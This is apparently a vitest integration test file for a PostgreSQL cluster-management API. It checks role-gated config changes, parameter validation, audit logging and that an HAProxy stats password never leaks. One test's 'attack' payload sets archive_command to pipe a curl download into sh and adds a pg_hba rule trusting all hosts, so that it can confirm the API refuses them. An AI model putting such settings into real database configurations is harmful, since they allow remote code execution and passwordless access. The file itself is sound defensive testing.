import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import type { ClusterDetail, ConfigPreview } from '@keel/shared';
import { requireLabStatus } from '@keel/lab';
import { labImportRequest } from '../scripts/lab-import.js';
import { getCluster, waitHealthy } from './cluster-helpers.js';
import { eventually, lab } from './lab.js';
import { testApp } from './test-app.js';

type App = Awaited<ReturnType<typeof testApp>>;

/** Issue 9 items 2, 8 and 9 against the lab's real PostgreSQL, Patroni and HAProxy. */
describe('configuration changes are checked against the server, and a stats login stays sealed', () => {
  let app: App;
  let cluster: ClusterDetail;
  let status: Awaited<ReturnType<typeof requireLabStatus>>;
  const statsPassword = 's3cret-stats-7a1b';

  const show = async (name: string): Promise<string> => {
    const client = new pg.Client({
      host: status.haproxy.readWrite.host,
      port: status.haproxy.readWrite.port,
      user: status.credentials.superuser.username,
      password: status.credentials.superuser.password,
      database: 'postgres',
    });
    await client.connect();
    try {
      return (await client.query<{ v: string }>(`select current_setting($1) as v`, [name])).rows[0]!.v;
    } finally {
      await client.end();
    }
  };
  const patch = (payload: object, as: 'admin' | 'operator' = 'operator') =>
    app.inject({
      method: 'PATCH',
      url: `/api/v1/clusters/${cluster.id}/config`,
      headers: app.as[as],
      payload,
    });
  const patroniConfig = async () =>
    (await (await fetch(`${cluster.members[0]!.apiUrl}/config`)).json()) as Record<string, unknown>;

  beforeAll(async () => {
    await lab('up');
    status = await requireLabStatus();
    app = await testApp();
    const request = labImportRequest(status);
    const stats = new URL(request.haproxy!.statsUrl!);
    stats.username = 'keel';
    stats.password = statsPassword;
    const res = await app.inject({
      method: 'POST',
      url: '/api/v1/clusters',
      headers: app.as.admin,
      payload: { ...request, haproxy: { ...request.haproxy, statsUrl: stats.toString() } },
    });
    expect(res.statusCode, res.body).toBe(201);
    cluster = await waitHealthy(app, res.json<ClusterDetail>().id);
  });
  afterAll(async () => {
    await app?.close();
  });

  it('refuses the probe’s payload from an operator, and Patroni never sees it', async () => {
    const attack = {
      changes: {
        postgresql: {
          parameters: { archive_mode: 'on', archive_command: 'curl -s http://x/y | sh' },
          pg_hba: ['host all all 0.0.0.0/0 trust'],
        },
      },
    };
    const refused = await patch(attack);
    console.log(
      `operator PATCH of the probe's payload: ${refused.statusCode} ${refused.json<{ message: string }>().message}`,
    );
    expect(refused.statusCode).toBe(403);
    expect(refused.json<{ message: string }>().message).toMatch(
      /postgresql\.parameters\.archive_command, postgresql\.pg_hba needs the admin role; you are operator/,
    );
    const config = await patroniConfig();
    expect(JSON.stringify(config)).not.toContain('curl -s');

    // The review shows what is at stake, to an operator and to an admin.
    for (const as of ['operator', 'admin'] as const) {
      const preview = await patch({ ...attack, dryRun: true }, as);
      expect(preview.statusCode).toBe(200);
      const review = preview.json<ConfigPreview>();
      expect(review.needsAdmin).toEqual(['postgresql.parameters.archive_command', 'postgresql.pg_hba']);
      expect(review.warnings.join('\n')).toMatch(/archive_command runs a shell command as the postgres user/);
      const archiveMode = review.changes.find((c) => c.path === 'postgresql.parameters.archive_mode')!;
      expect(archiveMode).toMatchObject({ needsRestart: true, running: await show('archive_mode') });
    }
  });

  it('takes names, restart needs and running values from the server’s own pg_settings', async () => {
    const typo = await patch({ changes: { postgresql: { parameters: { work_mme: '8MB' } } }, dryRun: true });
    expect(typo.statusCode).toBe(400);
    expect(typo.json<{ message: string }>().message).toMatch(
      /work_mme is not a parameter .*did you mean work_mem\?/,
    );
    const invented = await patch({
      changes: { postgresql: { parameters: { max_wal_size_restart_never: 1 } } },
      dryRun: true,
    });
    expect(invented.statusCode).toBe(400);

    const preview = await patch({
      changes: {
        postgresql: { parameters: { work_mem: '8MB', max_connections: 150, wal_keep_size: '64MB' } },
      },
      dryRun: true,
    });
    expect(preview.statusCode, preview.body).toBe(200);
    const byName = new Map(preview.json<ConfigPreview>().changes.map((c) => [c.path.split('.')[2], c]));
    expect(byName.get('work_mem')).toMatchObject({ needsRestart: false, running: await show('work_mem') });
    expect(byName.get('max_connections')).toMatchObject({
      needsRestart: true,
      running: await show('max_connections'),
    });
    expect(byName.get('wal_keep_size')?.needsRestart).toBe(false);
    console.log(
      `pg_settings: ${[...byName].map(([n, c]) => `${n} running ${c.running}, restart ${c.needsRestart}`).join('; ')}`,
    );
  });

  it('answers 400, not 500, for inherited names and deep nesting', async () => {
    for (const name of ['hasOwnProperty', 'isPrototypeOf']) {
      const res = await patch({ changes: { [name]: 1 }, dryRun: true });
      expect(res.statusCode, name).toBe(400);
    }
    // Written as text: JSON.stringify itself would overflow on an object this deep.
    const deep = `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`;
    const res = await app.inject({
      method: 'PATCH',
      url: `/api/v1/clusters/${cluster.id}/config`,
      headers: { ...app.as.operator, 'content-type': 'application/json' },
      payload: `{"changes": {"slots": ${deep}}, "dryRun": true}`,
    });
    expect(res.statusCode).toBe(400);
  });

  it('does not record a dry run as a configuration change', async () => {
    const audited = (outcome = 'success') =>
      app.db.auditEvent.count({ where: { action: 'PATCH /api/v1/clusters/:id/config', outcome } });
    const before = await audited();
    const deniedBefore = await audited('denied');
    const dry = await patch({ changes: { maximum_lag_on_failover: 1048577 }, dryRun: true });
    expect(dry.statusCode).toBe(200);
    expect(await audited()).toBe(before);
    const denied = await app.inject({
      method: 'PATCH',
      url: `/api/v1/clusters/${cluster.id}/config`,
      headers: app.as.viewer,
      payload: { changes: { ttl: 30 }, dryRun: true },
    });
    expect(denied.statusCode).toBe(403);
    // A refused dry run is still a refusal, and recorded.
    expect(await audited('denied')).toBe(deniedBefore + 1);
  });

  it('keeps the stats login sealed: not in answers, health, the feed, the audit log or the database file', async () => {
    const detail = await getCluster(app, cluster.id);
    expect(detail.haproxyEndpoints.statsUrl).toBe(status.haproxy.statsUrl);
    expect(detail.haproxyEndpoints.statsUsername).toBe('keel');
    expect(detail.haproxy.backends.length).toBeGreaterThan(0);

    const base = (await app.listen({ port: 0, host: '127.0.0.1' })).replace('http', 'ws');
    const messages: string[] = [];
    const ws = new WebSocket(`${base}/api/v1/events`, { headers: app.as.viewer });
    ws.on('message', (data: Buffer) => messages.push(data.toString('utf8')));
    await new Promise((resolve) => ws.once('open', resolve));
    await eventually('a few events', async () => (messages.length > 0 ? true : undefined));
    ws.close();
    const answers = [
      JSON.stringify(detail),
      (await app.inject({ method: 'GET', url: '/api/v1/clusters', headers: app.as.viewer })).body,
      (await app.inject({ method: 'GET', url: '/api/v1/credentials', headers: app.as.viewer })).body,
      (await app.inject({ method: 'GET', url: '/api/v1/audit?limit=1000', headers: app.as.admin })).body,
      ...messages,
    ].join('\n');
    expect(answers).not.toContain(statsPassword);
    const database = Buffer.concat(
      readdirSync(app.dataDir)
        .filter((f) => f.startsWith('keel.db'))
        .map((f) => readFileSync(path.join(app.dataDir, f))),
    );
    expect(database.includes(Buffer.from(statsPassword))).toBe(false);
  });
});
